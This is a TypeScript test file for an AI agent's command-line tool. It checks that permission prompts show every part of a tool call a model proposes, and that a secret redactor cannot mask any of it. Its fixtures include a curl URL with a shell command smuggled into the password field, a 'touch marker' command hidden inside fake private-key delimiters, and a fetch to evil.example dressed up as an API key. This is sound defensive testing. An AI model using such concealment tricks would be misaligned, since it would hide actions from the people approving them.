/** B5.7: nothing that a model writes hides a part of what a person is asked to allow. */

import assert from "node:assert/strict";
import { suite, test } from "node:test";
import { openApplication } from "../../../src/app/cli/application/open.ts";
import { readRunFlags } from "../../../src/app/cli/table/run-flags.ts";
import { createValueRedactor } from "../../../src/runtime/secrets/redact.ts";
import { openCommand } from "../../support/attacks/whole-command.ts";
import { requestFor } from "../../support/runtime/rights/requests.ts";

const LETTERS = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7";

suite("B5.7: a question shows all that would run, whatever shapes it has", () => {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell reads it.
  const inAddress = "curl -sI https://ci:x;touch${IFS}marker;echo@registry.example.com/v1";
  const inKey = `cat > key.pub <<'X'\n-----BEGIN PRIVATE KEY-----\n${LETTERS}\nX\ntouch marker\n: -----END PRIVATE KEY-----`;
  const rows: [what: string, tool: string, input: object, hidden: string][] = [
    ["a command in the password of an address", "terminal", { command: inAddress }, "touch"],
    ["a command between the ends of a key", "terminal", { command: inKey }, "touch marker"],
    ["a text with a command in it", "write_file", { path: "a", content: inKey }, "touch marker"],
    [
      "a host that begins like a key",
      "fetch",
      { url: `https://sk-ant-api03-${LETTERS}.evil.example/x` },
      "evil.example",
    ],
  ];
  for (const [what, tool, input, hidden] of rows) {
    test(`B5.7: a question shows ${what}`, async () => {
      await using command = await openCommand();
      await using application = await openApplication({
        flags: readRunFlags({ model: `script/${command.path}/answers.json`, ephemeral: true }),
        cwd: command.root,
        env: command.env,
        ask: () => ({ allow: false }),
        warn: () => {},
      });
      const { lines } = application.describe(requestFor(tool, input));
      assert.ok(lines.join("\n").includes(hidden), lines.join("\n"));
    });
  }
});

test("B3.3: the last door before the screen hides known values, and no shape that spans several texts", () => {
  const redactor = createValueRedactor([{ name: "API_KEY", value: "correct-horse-battery-9" }]);
  const frame = `-----BEGIN PRIVATE KEY-----\n{"a":"${LETTERS}"}\n-----END A-----`;
  assert.equal(redactor.text(frame), frame);
  assert.equal(redactor.text("it is correct-horse-battery-9."), "it is [redacted: API_KEY].");
});
